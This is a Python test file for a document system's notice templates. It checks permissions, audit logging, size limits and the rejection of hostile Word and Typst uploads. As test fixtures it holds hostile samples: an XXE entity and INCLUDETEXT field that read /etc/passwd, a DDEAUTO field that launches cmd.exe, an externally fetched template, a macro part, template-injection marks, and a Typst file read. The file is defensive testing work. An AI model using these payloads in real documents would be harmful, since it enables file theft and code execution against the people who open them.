"""Who changes the templates of notices, what is let in, and does a hostile one get at anything?"""

import datetime as dt
import io
import zipfile

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.oxml.parser import OxmlElement

from jiahe.kernel.errors import ForbiddenError, NotFoundError, UserError
from jiahe.office import templates
from jiahe.office.documents.blank_word import original_word
from jiahe.office.documents.pdf import original_typst
from jiahe.office.errors import ConflictError, NotSignedInError, TooLargeError
from jiahe.office.log.models import Entry
from jiahe.office.papers import paper, tag_of
from jiahe.runtime.home import home
from tests.office.documents.samples import notice, table
from tests.office.programme.house import CREW, make_crew

MAY = {"office", "second_office", "administrator"}
LETTERHEAD = "样例机关文件"


@pytest.fixture
def crew(db):
    return make_crew()


def word_with(change):
    """Return the original template, changed."""
    paper = Document(io.BytesIO(original_word()))
    change(paper)
    target = io.BytesIO()
    paper.save(target)
    return target.getvalue()


def with_letterhead():
    return word_with(lambda paper: paper.paragraphs[0].insert_paragraph_before(LETTERHEAD))


def typst_with(text, *, before=""):
    return f"{before}{original_typst()}\n{text}".encode()


def repacked(content, **parts):
    """Return a package with parts put in place of others, or beside them."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(name, None) or old.read(name))
        for name, more in parts.items():
            new.writestr(name, more)
    return target.getvalue()


def test_an_office_puts_its_own_template_in_place_and_goes_back(crew):
    office, first = crew["office"], paper(notice(), "docx")
    own = with_letterhead()

    used = templates.replace_template(office, "notice.docx", own)
    made = paper(notice(), "docx")

    assert (used.kind, used.size, used.since is None) == ("docx", len(own), False)
    assert templates.template_for(office, "notice.docx") == own
    assert Document(io.BytesIO(made)).paragraphs[0].text == LETTERHEAD
    assert templates.restore_template(office, "notice.docx").since is None
    assert paper(notice(), "docx") == first
    told = [(entry.actor, entry.verb, entry.object) for entry in Entry.objects.order_by("number")][-2:]
    assert told == [
        ("office", "replace_template", "template/notice.docx"),
        ("office", "restore_template", "template/notice.docx"),
    ]
    with pytest.raises(ConflictError):
        templates.restore_template(office, "notice.docx")


def test_a_template_of_pdfs_changes_the_papers_and_their_tags(crew):
    before = tag_of(notice(), "pdf"), paper(notice(), "pdf")
    templates.replace_template(crew["administrator"], "notice.typ", typst_with("另加一行"))
    after = tag_of(notice(), "pdf"), paper(notice(), "pdf")
    assert before[0] != after[0]
    assert before[1] != after[1]
    assert tag_of(notice(), "docx") == tag_of(notice(), "docx")


@pytest.mark.parametrize("who", ["nobody", *CREW])
def test_only_the_office_and_administrators_change_templates(crew, who):
    person = crew.get(who)
    verbs = (
        lambda: templates.templates_for(person),
        lambda: templates.template_for(person, "notice.typ"),
        lambda: templates.in_use_for(person, "notice.typ"),
        lambda: templates.sample_for(person, "notice.typ"),
        lambda: templates.replace_template(person, "notice.typ", b"x"),
        lambda: templates.restore_template(person, "notice.typ"),
    )
    if who in MAY:
        assert [one.name for one in templates.templates_for(person)] == ["notice.docx", "notice.typ"]
        assert templates.sample_for(person, "notice.typ")[1].startswith(b"%PDF")
        return
    for verb in verbs:
        with pytest.raises(NotSignedInError if person is None else ForbiddenError):
            verb()


@pytest.mark.parametrize("name", ["", "notice", "notice.exe", "../notice.docx", "notice.typ/", "notice.pdf"])
def test_there_are_no_other_templates(crew, name):
    with pytest.raises(NotFoundError):
        templates.replace_template(crew["office"], name, b"x")


def embedded_field(code):
    def change(paper):
        run = paper.paragraphs[0].add_run()._r
        for piece in (code[:3], code[3:]):
            mark = OxmlElement("w:instrText")
            mark.text = piece
            run.append(mark)

    return word_with(change)


def outside(kind):
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(original_word(), **{"word/_rels/settings.xml.rels": link})


BAD_WORD = {
    "nothing": b"",
    "no package": b"PK\x03\x04 and so on",
    "a text": b"hello",
    "a workbook": lambda: repacked(original_word(), **{"[Content_Types].xml": b"<Types/>"}),
    "macros": lambda: repacked(original_word(), **{"word/vbaProject.bin": b"x"}),
    "a template fetched from elsewhere": lambda: outside("attachedTemplate"),
    "an entity": lambda: repacked(
        original_word(), **{"word/document.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'}
    ),
    "a broken part": lambda: repacked(original_word(), **{"word/document.xml": b"<w:document"}),
    "a field that includes a file": lambda: embedded_field('INCLUDETEXT "/etc/passwd"'),
    "a field that starts a program": lambda: embedded_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "no marks": lambda: word_with(lambda paper: [one.clear() for one in paper.paragraphs]),
    "an unknown mark": lambda: word_with(lambda paper: paper.paragraphs[0].insert_paragraph_before("{{ secret }}")),
    "a mark that reaches further": lambda: word_with(
        lambda paper: paper.paragraphs[0].insert_paragraph_before("{{ title.__class__.__mro__ }}")
    ),
    "a mark that fills the memory": lambda: word_with(
        lambda paper: paper.paragraphs[0].insert_paragraph_before("{{ title * 10 ** 10 }}")
    ),
}


@pytest.mark.parametrize("name", BAD_WORD)
def test_a_word_file_that_is_no_template_is_refused_and_the_old_one_stays(crew, name):
    content = BAD_WORD[name]
    with pytest.raises(UserError) as told:
        templates.replace_template(crew["office"], "notice.docx", content() if callable(content) else content)
    assert "tmp" not in str(told.value)
    assert not home().templates.exists()
    assert not Entry.objects.filter(verb="replace_template").exists()


BAD_TYPST = {
    "nothing": b"  \n",
    "no text": b"\xff\xfe\x00",
    "a zero": b"a\0b",
    "wrong": typst_with("#let x ="),
    "a file": typst_with('#read("/etc/passwd")'),
    "a package": typst_with('#import "@preview/cetz:0.3.0"'),
    "a package under another name": typst_with('#import "@" + "preview" + "/cetz:0.3.0"'),
    "no title": original_typst().replace("#title(notice.title_lines)", "").encode(),
    "no day": original_typst().replace("notice.day", "[]").encode(),
}


@pytest.mark.parametrize("name", BAD_TYPST)
def test_a_typst_text_that_is_no_template_is_refused_and_the_old_one_stays(crew, name):
    with pytest.raises(UserError):
        templates.replace_template(crew["office"], "notice.typ", BAD_TYPST[name])
    assert not home().templates.exists()


def test_a_template_over_the_limit_is_refused(crew):
    for name, most in (("notice.docx", templates.MOST["docx"]), ("notice.typ", templates.MOST["typ"])):
        with pytest.raises(TooLargeError):
            templates.replace_template(crew["office"], name, b"x" * (most + 1))


def test_a_template_that_hides_the_mark_of_simulated_data_does_not_hide_it(crew):
    def silent(paper):
        for section in paper.sections:
            for header in (section.header, section.even_page_header):
                header.is_linked_to_previous = True
        for element in list(paper.element.body.iter(qn("w:headerReference"))):
            element.getparent().remove(element)

    templates.replace_template(crew["office"], "notice.docx", word_with(silent))
    shown = Document(io.BytesIO(paper(notice(), "docx")))
    assert shown.sections[0].header.paragraphs[-1].text == "模拟数据 仅供演示 不具效力"

    bare = original_typst().replace("header: if notice.simulated", "header: if false and notice.simulated")
    templates.replace_template(crew["office"], "notice.typ", bare.encode())
    marked, plain = (paper(notice(simulated=one), "pdf") for one in (True, False))
    assert b"/Count 2" in marked
    assert len(marked) > 10_000
    assert marked != plain


def test_what_fails_later_is_told_and_not_tried_again_at_once(crew):
    # it copes with the samples, but not with a table of more rows
    text = '#if notice.table != none and notice.table.groups.map(one => one.rows.len()).sum() > 20 { panic("many") }'
    templates.replace_template(crew["office"], "notice.typ", typst_with(text))
    assert paper(notice(), "pdf").startswith(b"%PDF")
    for _ in range(2):
        with pytest.raises(UserError, match="many"):
            paper(notice(table=table(30)), "pdf")


def test_where_the_change_cannot_be_kept_nothing_is_entered(crew, monkeypatch):
    own = with_letterhead()
    templates.replace_template(crew["office"], "notice.docx", own)
    before = Entry.objects.count()
    monkeypatch.setattr(templates, "record", lambda _deed: (_ for _ in ()).throw(RuntimeError))
    with pytest.raises(RuntimeError):
        templates.restore_template(crew["office"], "notice.docx")
    assert templates.template_for(crew["office"], "notice.docx") == own
    assert Entry.objects.count() == before
    assert templates.in_use_for(crew["office"], "notice.docx").since.date() <= dt.datetime.now(dt.UTC).date()
